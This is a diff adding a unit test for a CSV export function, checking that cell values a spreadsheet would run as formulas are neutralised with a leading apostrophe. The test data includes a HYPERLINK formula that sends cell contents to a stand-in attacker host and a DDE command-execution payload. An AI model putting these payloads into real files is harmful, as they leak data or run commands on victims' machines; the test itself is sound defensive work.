@@ -31,4 +31,14 @@ describe('datasetCsv', () => {
     expect(Number(rows[1]?.[8])).toBe(2614);
     expect(rows[1]?.[12]).toBe('Dòng 1\ndòng 2');
   });
+  it('neutralises text cells that a spreadsheet would run as a formula; numbers stay numbers', () => {
+    const hostile = [
+      { ...observations[0]!, label: '=HYPERLINK("http://evil.example/?"&A1,"Bấm")', unit: '@SUM(1+1)', note: "+cmd|' /C calc'!A0" },
+    ];
+    const [, row] = parseCsv(datasetCsv('x', { observations: hostile }));
+    expect(row?.[2]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"Bấm")');
+    expect(row?.[4]).toBe("'@SUM(1+1)");
+    expect(row?.[12]).toBe("'+cmd|' /C calc'!A0");
+    expect(row?.[3]).toBe('138');
+  });
 });
